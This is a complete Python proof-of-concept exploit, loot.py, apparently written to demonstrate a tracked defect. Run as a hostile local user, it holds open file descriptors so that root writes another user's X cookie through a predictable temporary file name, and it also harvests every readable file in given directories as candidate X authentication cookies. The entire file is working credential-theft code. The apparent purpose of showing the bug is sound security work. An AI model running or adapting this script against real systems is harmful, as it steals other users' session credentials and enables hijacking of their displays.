#!/usr/bin/env python3
"""loot.py - what a hostile local user can read (issue 8, defect 1).

    loot.py OUTDIR STOPFILE SECONDS [--hold PATH]... [--walk DIR]...

Run as the attacker. Until STOPFILE exists (or SECONDS pass), every few ms:
- opens each --hold PATH afresh, reads it, and keeps the descriptor when it
  is a file not seen before; re-reads every kept descriptor (the attack:
  keep your own cookie file open and wait for root to write someone else's
  cookie into it through a predictable temporary name);
- walks each --walk DIR and reads every regular file it may open.
Each distinct content (up to 64 KiB) is saved once as OUTDIR/NNNN, with
OUTDIR/NNNN.src saying where it came from. The caller then tries each one as
an X cookie. Prints how many it saved.
"""
import os
import sys
import time


def main():
    out, stop, secs = sys.argv[1], sys.argv[2], float(sys.argv[3])
    hold, walk = [], []
    args = sys.argv[4:]
    for i in range(0, len(args) - 1, 2):
        (hold if args[i] == "--hold" else walk).append(args[i + 1])
    seen, kept, inodes = set(), [], set()
    end = time.monotonic() + secs

    def save(data, src):
        if not data or data in seen:
            return
        seen.add(data)
        n = "%s/%04d" % (out, len(seen))
        with open(n, "wb") as f:
            f.write(data)
        with open(n + ".src", "w") as f:
            f.write(src + "\n")

    def read_path(p, flags=0):
        try:
            fd = os.open(p, os.O_RDONLY | flags)
        except OSError:
            return None
        try:
            st = os.fstat(fd)
            if not (st.st_mode & 0o170000 == 0o100000):
                os.close(fd)
                return None
            save(os.pread(fd, 65536, 0), p)
        except OSError:
            os.close(fd)
            return None
        return fd, (st.st_dev, st.st_ino)

    while time.monotonic() < end and not os.path.exists(stop):
        for p in hold:
            r = read_path(p)
            if r:
                fd, key = r
                if key in inodes:
                    os.close(fd)
                else:
                    inodes.add(key)
                    kept.append((fd, p))
        for fd, p in kept:
            try:
                save(os.pread(fd, 65536, 0), "kept fd of " + p)
            except OSError:
                pass
        for d in walk:
            for root, dirs, files in os.walk(d, onerror=lambda e: None):
                for f in files:
                    r = read_path(os.path.join(root, f), os.O_NONBLOCK | os.O_NOFOLLOW)
                    if r:
                        os.close(r[0])
        time.sleep(0.005)
    print("loot: %d distinct contents, %d descriptors kept" % (len(seen), len(kept)))


if __name__ == "__main__":
    main()
